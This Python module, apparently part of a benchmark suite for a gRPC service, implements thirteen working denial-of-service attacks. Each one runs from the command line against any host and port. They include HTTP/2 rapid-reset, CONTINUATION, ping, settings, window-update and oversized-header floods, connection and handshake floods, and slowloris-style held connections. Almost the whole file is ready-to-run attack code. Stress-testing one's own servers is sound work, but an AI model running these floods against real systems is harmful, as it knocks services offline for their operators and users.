"""Attacks by connections and frames, with plain sockets: ``python -m benchmarks.attacks.connections NAME HOST PORT``.

Each attack is a function of the host, the port and an event. It floods until the event is set, and returns how often
it did what it does. The program floods until its standard input ends, and prints that number. So it can run in a
process of its own, and takes no time of Python from the measurement.
"""

from __future__ import annotations

import argparse
import select
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from typing import Protocol, TypeAlias, TypeVar

from benchmarks.attacks import http2
from benchmarks.attacks.http2 import Http2Peer, frame


class _Connection(Protocol):
    def fileno(self) -> int: ...


T = TypeVar("T", bound=_Connection)
Attack: TypeAlias = Callable[[str, int, threading.Event], int]

_METHOD = "/ual.v1.UalService/GetTelemetry"
_STREAMS = 2000
"""Of one connection, for attacks that need new streams."""
_BATCH = 50
_MOST_CONNECTIONS = 400
_OPENED_AT_ONCE = 20
_PAUSE_S = 0.01
_LARGEST_FRAME_BYTES = 16384


def connect_flood(host: str, port: int, stop: threading.Event) -> int:
    """Connects and closes at once. Counts connections."""
    count = 0
    while not stop.is_set():
        with suppress(OSError):
            http2.reset(socket.create_connection((host, port), http2.CONNECT_S))
            count += 1
    return count


def handshake_flood(host: str, port: int, stop: threading.Event) -> int:
    """Connects, begins to speak HTTP/2, and closes. Counts connections."""
    count = 0
    while not stop.is_set():
        with _peer(host, port) as peer:
            count += peer is not None
    return count


def rst_flood(host: str, port: int, stop: threading.Event) -> int:
    """Opens calls and resets each at once ("rapid reset"). Counts calls."""
    headers = http2.request(_METHOD)

    def call(stream: int) -> bytes:
        opened = frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
        return opened + frame(http2.RST_STREAM, 0, stream, http2.CANCEL)

    streams = [2 * number + 1 for number in range(_STREAMS)]
    return _repeat(host, port, stop, [b"".join(map(call, batch)) for batch in _batches(streams)], _BATCH)


def call_and_rst_flood(host: str, port: int, stop: threading.Event) -> int:
    """Makes whole calls, with their request, and resets each at once. Counts calls."""
    headers, message = http2.request(_METHOD), bytes(5)  # an empty message

    def call(stream: int) -> bytes:
        opened = frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
        asked = frame(http2.DATA, http2.END_STREAM, stream, message)
        return opened + asked + frame(http2.RST_STREAM, 0, stream, http2.CANCEL)

    streams = [2 * number + 1 for number in range(_STREAMS)]
    return _repeat(host, port, stop, [b"".join(map(call, batch)) for batch in _batches(streams)], _BATCH)


def continuation_flood(host: str, port: int, stop: threading.Event) -> int:
    """Begins the headers of a call, and goes on with them without an end. Counts frames."""
    begin = frame(http2.HEADERS, 0, 1, http2.request(_METHOD))
    more = frame(http2.CONTINUATION, 0, 1, http2.literals({b"x": b"y"}))
    return _repeat(host, port, stop, [begin + more * _BATCH, *[more * _BATCH] * 1000], _BATCH)


def empty_continuation_flood(host: str, port: int, stop: threading.Event) -> int:
    """Begins the headers of a call, and goes on with frames that hold nothing. Counts frames."""
    begin = frame(http2.HEADERS, 0, 1, http2.request(_METHOD))
    more = frame(http2.CONTINUATION, 0, 1)
    return _repeat(host, port, stop, [begin + more * _BATCH, *[more * _BATCH] * 1000], _BATCH)


def metadata_flood(host: str, port: int, stop: threading.Event) -> int:
    """Makes calls whose headers are larger than a server takes (some 64 kB each). Counts calls."""
    large = http2.literals({b"x-large": b"y" * (_LARGEST_FRAME_BYTES - 32)})

    def call(stream: int) -> bytes:
        begin = frame(http2.HEADERS, 0, stream, http2.request(_METHOD))
        return begin + frame(http2.CONTINUATION, 0, stream, large) * 3 + frame(http2.CONTINUATION, 4, stream, large)

    return _repeat(host, port, stop, [call(2 * number + 1) for number in range(100)], 1)


def ping_flood(host: str, port: int, stop: threading.Event) -> int:
    """Sends pings, which have to be answered. Counts pings."""
    return _repeat(host, port, stop, [frame(http2.PING, 0, 0, bytes(8)) * _BATCH] * 1000, _BATCH)


def settings_flood(host: str, port: int, stop: threading.Event) -> int:
    """Sends settings, which have to be acknowledged. Counts frames."""
    return _repeat(host, port, stop, [frame(http2.SETTINGS) * _BATCH] * 1000, _BATCH)


def window_flood(host: str, port: int, stop: threading.Event) -> int:
    """Enlarges the window of the connection by one byte, again and again. Counts frames."""
    update = frame(http2.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
    return _repeat(host, port, stop, [update * _BATCH] * 1000, _BATCH)


def half_open(host: str, port: int, stop: threading.Event) -> int:
    """Holds many connections on which it says nothing; those that are ended it opens again. Counts connections."""

    def is_open(connection: socket.socket) -> bool:
        with suppress(OSError):
            return bool(connection.recv(1 << 16))  # the server's settings
        return False

    def connect() -> socket.socket:
        return socket.create_connection((host, port), http2.CONNECT_S)

    return _hold(connect, is_open, http2.reset, stop)


def idle(host: str, port: int, stop: threading.Event) -> int:
    """Holds many connections that make no call and answer pings; those that are ended it opens again. Counts them."""
    return _hold(lambda: Http2Peer(host, port), Http2Peer.answer, Http2Peer.close, stop)


def unsent_requests(host: str, port: int, stop: threading.Event) -> int:
    """Opens calls and never sends their request, 50 on each of its connections. Counts connections."""
    headers = http2.request(_METHOD)
    opened = b"".join(frame(http2.HEADERS, http2.END_HEADERS, 2 * number + 1, headers) for number in range(_BATCH))

    def connect() -> Http2Peer:
        peer = Http2Peer(host, port)
        peer.is_open = peer.is_open and peer.send(opened)
        return peer

    return _hold(connect, Http2Peer.answer, Http2Peer.close, stop)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        connect_flood,
        handshake_flood,
        rst_flood,
        call_and_rst_flood,
        continuation_flood,
        empty_continuation_flood,
        metadata_flood,
        ping_flood,
        settings_flood,
        window_flood,
        half_open,
        idle,
        unsent_requests,
    )
}


def _batches(streams: list[int]) -> Iterator[list[int]]:
    for begin in range(0, len(streams), _BATCH):
        yield streams[begin : begin + _BATCH]


@contextmanager
def _peer(host: str, port: int) -> Iterator[Http2Peer | None]:
    """A connection until the block ends; None where none can be had."""
    try:
        peer = Http2Peer(host, port)
    except OSError:
        time.sleep(_PAUSE_S)
        yield None
        return
    try:
        yield peer
    finally:
        peer.close()


def _repeat(host: str, port: int, stop: threading.Event, parts: list[bytes], worth: int) -> int:
    """Sends the parts on one connection after the other. Counts `worth` for each part."""
    count = 0
    while not stop.is_set():
        with _peer(host, port) as peer:
            if peer is None:
                continue
            for part in parts:
                if stop.is_set() or not peer.send(part):
                    break
                count += worth
    return count


def _hold(
    connect: Callable[[], T], is_open: Callable[[T], bool], close: Callable[[T], None], stop: threading.Event
) -> int:
    """Holds connections, and opens more until there are `_MOST_CONNECTIONS`. Counts those that it opened."""
    held: list[T] = []
    count = 0
    while not stop.is_set():
        for _ in range(min(_OPENED_AT_ONCE, _MOST_CONNECTIONS - len(held))):
            with suppress(OSError):
                held.append(connect())
                count += 1
        for ended in [each for each in _readable(held) if not is_open(each)]:
            close(ended)
            held.remove(ended)
        stop.wait(_PAUSE_S)
    for each in held:
        close(each)
    return count


def _readable(held: list[T]) -> list[T]:
    by_number = {each.fileno(): each for each in held}
    poll = select.poll()
    for number in by_number:
        poll.register(number, select.POLLIN)
    return [by_number[number] for number, _ in poll.poll(0)]


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.attacks.connections", description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    arguments = parser.parse_args()
    stop = threading.Event()
    threading.Thread(target=_stop_at_end_of_input, args=(stop,), daemon=True).start()
    print(ATTACKS[arguments.attack](arguments.host, arguments.port, stop), flush=True)


def _stop_at_end_of_input(stop: threading.Event) -> None:
    sys.stdin.read()
    stop.set()


if __name__ == "__main__":
    main()
